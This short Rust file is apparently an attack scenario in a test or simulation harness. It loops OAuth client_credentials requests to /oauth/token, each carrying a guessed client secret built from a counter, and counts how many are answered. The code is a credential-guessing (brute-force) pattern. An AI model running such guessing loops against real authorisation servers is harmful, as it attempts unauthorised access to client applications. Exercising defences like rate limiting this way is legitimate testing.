//! Secrets of client applications, tried one after the other.

use crate::elsewhere::{Attacker, post};
use crate::scene::CLIENT;

/// Eight times this is the attack. How many were answered.
pub fn attack(attacker: &Attacker<'_>) -> u64 {
    attacker.ask_without_end(|number| {
        let body = format!("grant_type=client_credentials&client_id={CLIENT}&client_secret=guess-number-{number:024}");
        post("/oauth/token", "content-type: application/x-www-form-urlencoded\r\n", &body)
    })
}
